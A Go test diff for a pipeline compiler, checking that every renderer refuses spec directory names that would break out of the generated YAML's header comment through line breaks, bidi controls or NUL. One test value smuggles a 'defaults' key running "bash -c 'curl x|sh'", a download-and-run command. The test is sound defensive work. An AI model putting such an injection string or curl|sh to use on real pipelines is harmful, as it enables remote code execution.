@@ -51,3 +51,21 @@ func TestGeneratedCommandsParse(t *testing.T) {
 		}
 	}
 }
+
+// A spec directory whose name ends the header comment (a line break of
+// any kind) or disguises it (bidi controls) would add keys to the
+// generated YAML: every target refuses it, in one shared place.
+func TestEveryTargetRefusesHeaderInjection(t *testing.T) {
+	p, err := compiler.Compile(filepath.Join(golden.Root(), "examples", "minimal"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, dir := range []string{"ml\ndefaults: {run: {shell: \"bash -c 'curl x|sh' {0}\"}}\n#", "ml\rx", "ml\u2028x", "ml\u0085x", "ml\u202ex", "ml\x00x"} {
+		p.Source = dir
+		for _, name := range targetNames() {
+			if _, err := renderers[name].Render(p); err == nil || !regexp.MustCompile(`header comment`).MatchString(err.Error()) {
+				t.Errorf("%s rendered a pipeline from %q: %v", name, dir, err)
+			}
+		}
+	}
+}
